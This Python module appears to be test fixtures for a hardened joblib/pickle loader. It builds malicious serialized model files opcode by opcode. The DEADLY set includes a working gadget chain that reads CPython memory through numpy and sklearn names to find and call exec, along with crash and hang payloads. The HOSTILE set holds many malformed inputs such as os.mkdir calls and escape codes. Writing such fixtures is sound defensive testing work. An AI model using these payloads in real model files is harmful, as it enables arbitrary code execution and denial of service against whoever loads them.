"""joblib files of an attacker's: `DEADLY`, `HOSTILE`.

They are written operation by operation, by those that the pipeline's own files have where that can
be: others are refused for a lesser reason.
"""

import builtins
import bz2
import gzip
import lzma
import pickle
import zlib
from pickle import APPENDS, BINGET, BUILD, MEMOIZE, NEWOBJ, REDUCE, SETITEM, STACK_GLOBAL
from pickletools import optimize

import sklearn
from sklearn.linear_model import LogisticRegression


class Raw(bytes):
    """Operations that leave one value on the stack."""


def code(value: object) -> Raw:
    """The operations that make a value; a Raw within it stands for what it makes."""
    if isinstance(value, Raw):
        return value
    if isinstance(value, dict):
        return Raw(b"}(" + b"".join(code(k) + code(v) for k, v in value.items()) + b"u")
    if isinstance(value, list | tuple):
        start, end = (b"](", b"e") if isinstance(value, list) else (b"(", b"t")
        return op(end, Raw(start), *value)
    return Raw(optimize(pickle.dumps(value, protocol=4))[2:-1])


def op(operation: bytes, *values: object) -> Raw:
    return Raw(b"".join(map(code, values)) + operation)


ND, DT, MA, REBUILD, SVC, WRAPPER = (
    op(STACK_GLOBAL, *name.rsplit(".", 1))
    for name in (
        *("numpy.ndarray", "numpy.dtype", "numpy.ma.MaskedArray", "numpy.ma.core._mareconstruct"),
        *("sklearn.svm._classes.LinearSVC", "joblib.numpy_pickle.NumpyArrayWrapper"),
    )
)

MKDIR = op(STACK_GLOBAL, "os", "mkdir")


def dtype(kind: str = "f8", order: str = "<") -> Raw:
    given = op(REDUCE, DT, (kind, False, True))
    return op(BUILD, given, (3, order, None, None, None, -1, -1, 0))


def masked(
    shape: object = (2,), data: object = bytes(16), mask: object = bytes(2), fill: object = None
) -> Raw:
    given = op(REDUCE, REBUILD, (MA, ND, (0,), "b"))
    return op(BUILD, given, (1, shape, dtype(), False, data, mask, fill))


def array(data: bytes = bytes(16), fill: bytes = b"\xff", **changes: object) -> Raw:
    """An array at a file's beginning, as joblib writes it but for the changes."""
    wrapped = {"subclass": ND, "shape": (2,), "order": "C", "dtype": dtype(), "allow_mmap": True}
    wrapped |= {"numpy_array_alignment_bytes": 16} | changes
    wrapper = op(BUILD, op(NEWOBJ, WRAPPER, ()), wrapped)
    room = 16 - (2 + len(wrapper) + 1) % 16
    return Raw(wrapper + bytes([room]) + fill * room + data)


def svc(**attributes: object) -> Raw:
    version = {"_sklearn_version": sklearn.__version__}
    return op(BUILD, op(NEWOBJ, SVC, ()), version | attributes)


def search(C: object) -> Raw:
    return code({"best_params_": {"C": C}})


def nested(levels: int) -> Raw:
    return Raw(b")" + b"\x85" * levels)


BOMB = Raw(b")" + b"".join(b"\x94h" + bytes([level]) + b"\x86" for level in range(60)))  # t = t, t


def through_memory(run: str) -> Raw:
    """By allowed names alone, of CPython 3.11: exec is found in the memory, and called."""
    steps: list[Raw] = []
    kept = iter(range(256))

    def let(operation: bytes, *values: object) -> Raw:
        steps.append(op(operation + MEMOIZE, *values))
        return Raw(BINGET + bytes([next(kept)]))

    nd, dt, ma, f, sv = (let(b"", name) for name in (ND, DT, MA, REBUILD, SVC))
    objects, numbers = let(REDUCE, dt, ("O",)), let(REDUCE, dt, ("u8",))
    pointer = let(REDUCE, nd, ((1,), objects))
    address = let(REDUCE, nd, ((1,), numbers, pointer))

    def at(base: Raw, offset: int, n: int = 1) -> Raw:
        model, arguments = let(NEWOBJ, sv, ()), let(REDUCE, nd, ((4,), objects))
        place = {"shape": (2**47 - 2**20,), "typestr": "|u1", "data": (offset, False), "version": 3}
        version = {"_sklearn_version": sklearn.__version__}
        steps.append(op(BUILD, model, version | {"__array_interface__": place}))
        memory = let(REDUCE, ma, (model,))
        for key, value in ((0, (n,)), (1, numbers), (2, memory), ([3], base)):
            steps.append(op(SETITEM, arguments, key, value))
        return let(REDUCE, nd, arguments)

    steps.append(op(SETITEM, pointer, 0, f))
    index = list(builtins.__dict__).index("exec")
    found = at(at(at(at(address, 24), 32), 544 + 16 * index + 8), 8, 6)
    function = let(b"", b"x" * 64)
    steps.append(op(SETITEM, pointer, 0, function))
    steps.append(op(SETITEM, at(address, 8, 6), [0, 1, 2, 3, 4, 5], found))
    steps.append(op(SETITEM, address, 0, 0))
    steps.append(op(REDUCE, function, (run,)))
    return code({"steps": tuple(steps), "best_params_": {"C": 0.2}})


def whole(operations: dict[str, Raw]) -> dict[str, bytes]:
    return {name: b"\x80\x04" + value + b"." for name, value in operations.items()}


OF_OBJECTS = op(
    BUILD,
    op(REDUCE, DT, ("V8", False, True)),
    (3, "|", None, ("a",), {"a": (op(REDUCE, DT, ("O",)), 0)}, 8, 1, 63),
)

# These ran code, crashed Python or never came back.
DEADLY = whole(
    {
        "code": through_memory("print('ran', flush=True); open('mark', 'w').close()"),
        "objects": op(REDUCE, ND, op(REDUCE, ND, ((1,), op(REDUCE, DT, ("O",)), b"A" * 8))),
        "a dtype that says object": op(REDUCE, ND, op(REDUCE, ND, ((1,), OF_OBJECTS, b"A" * 8))),
        "a deep key": op(SETITEM, {}, nested(3_000_000), None),
        "a key of many": op(SETITEM, {}, BOMB, None),
        "a version of many": svc(_sklearn_version=BOMB),
    }
)

# Each of these is refused for one reason.
HOSTILE = whole(
    {
        "a function": op(REDUCE, MKDIR, ("mark",)),
        "an escape code for a name": op(STACK_GLOBAL, "os", "\x1b]0;\x07\x1b[31m\n\u2028\ud800"),
        "no text for a name": op(STACK_GLOBAL, b"os", ["mkdir"]),
        "a name with a dot": op(STACK_GLOBAL, "numpy", "dtype.__class__"),
        "another model": code(LogisticRegression()),
        "an address": search(
            op(REDUCE, ND, ((1,), dtype("u8"), op(REDUCE, ND, ((1,), dtype("O")))))
        ),
        "a called array": op(REDUCE, ND, ((2**45,), dtype())),
        "a called value": op(REDUCE, 1, ()),
        "a model made of a value": op(NEWOBJ, SVC, (1,)),
        "a made array": op(NEWOBJ, ND, ((2,), dtype())),
        "a rebuilt array": op(REDUCE, REBUILD, (ND, ND, (2**45,), "b")),
        "a dtype of objects": array(dtype=dtype("O")),
        "a dtype of another order": array(dtype=dtype(order=">")),
        "a dtype without its state": array(dtype=op(REDUCE, DT, ("f8", False, True))),
        "another class of array": array(subclass=MA),
        "another alignment": array(numpy_array_alignment_bytes=0),
        "more about an array": array(other=1),
        "another padding": array(fill=b"\x00"),
        "a shape of 2^80": array(shape=(2**40, 2**40)),
        "a shape of more than the file has": array(shape=(2**20,)),
        "a shape below 0": array(shape=(-1,)),
        "a shape of 0": array(b"", shape=(0,)),
        "a shape of a truth": array(shape=(True, 2)),
        "no shape": array(bytes(8), shape=()),
        "a masked array that masks": masked(mask=b"\0\1"),
        "a masked array without a mask": masked(mask=b""),
        "a masked array without all its bytes": masked(data=bytes(15)),
        "a masked array with a filling": masked(fill=BOMB),
        "99 arrays of the same bytes": code(
            [
                masked((2**17,), op(MEMOIZE, bytes(2**20)), op(MEMOIZE, bytes(2**17))),
                *[masked((2**17,), Raw(b"h\0"), Raw(b"h\1"))] * 98,
            ]
        ),
        "an unfinished array": search(op(NEWOBJ, WRAPPER, ())),
        "bytes": search(b"0.2"),
        "a model within": search(svc()),
        "a model's method": svc(coef_=1.0, predict=1),
        "a model twice": op(BUILD, svc(), {}),
        "a model with slots": op(BUILD, op(NEWOBJ, SVC, ()), (None, {"C": 1.0})),
        "a model in itself": Raw(op(MEMOIZE, op(NEWOBJ, SVC, ())) + b"}" + code("C") + b"h\0sb"),
        "a number with a state": op(BUILD, 1, {}),
        "a list in itself": Raw(b"]\x94(h\0e"),
        "a dict in itself": Raw(b"}\x94" + code("a") + b"h\0s"),
        "many": search(BOMB),
        "30,000 times 30,000": op(
            APPENDS, [op(MEMOIZE, [None] * 30_000)], Raw(b"(" + b"h\0" * 30_000)
        ),
        "deep": search(nested(30_000)),
        "an item of a list": op(SETITEM, [], 0, None),
        "a key that is an array": op(SETITEM, {}, masked(), 1),
        "a key without a value": Raw(b"}(" + code("a") + b"u"),
        "appended to a dict": op(pickle.APPEND, {}, None),
        "nothing kept": Raw(b"h\x07"),
        "two objects": Raw(b"NN"),
        "a mark": Raw(b"(N"),
        "no mark": Raw(b"e"),
        "no tuple of three": Raw(b"N\x87"),
        "a text of more than the file has": Raw(b"\x8c\xffabc"),
        "half a character": Raw(b"\x8c\x01\xff"),
        "bytes of 2^31": Raw(b"B\xff\xff\xff\x7f"),
        "a newer operation": Raw(b"N\x98"),
        "an older operation": Raw(b"cos\nmkdir\n(" + code("mark") + b"tR"),
        "a number of 10,000 digits": Raw(b"L" + b"9" * 10_000 + b"L\n"),
        "more after its end": Raw(b"N.N"),
        "2,000,000 operations": Raw(b"(" + b"N" * 2_000_000 + b"t"),
    }
) | {
    "empty": b"",
    "no end": b"\x80\x04N",
    **{f"protocol {n}": pickle.dumps({"best_params_": {"C": 0.2}}, n) for n in (0, 1, 2, 3, 5)},
    **{m.__name__: m.compress(b"\x80\x04N.") for m in (zlib, gzip, bz2, lzma)},
}
